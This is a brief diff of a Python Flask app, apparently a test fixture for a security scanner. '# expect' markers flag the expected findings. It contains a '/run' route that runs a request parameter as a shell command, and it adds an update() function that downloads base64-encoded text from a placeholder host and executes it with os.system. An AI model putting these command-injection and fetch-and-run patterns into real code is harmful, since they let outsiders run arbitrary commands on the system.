@@ -1,3 +1,4 @@
+import base64
 import os
 import subprocess
 
@@ -16,3 +17,8 @@ app = Flask(__name__)
 @app.route("/run")
 def run_it():
     return subprocess.Popen(request.args.get("line"), shell=True)  # expect
+
+
+def update():
+    line = requests.get("https://example.com/line").text
+    os.system(base64.b64decode(line).decode())  # expect
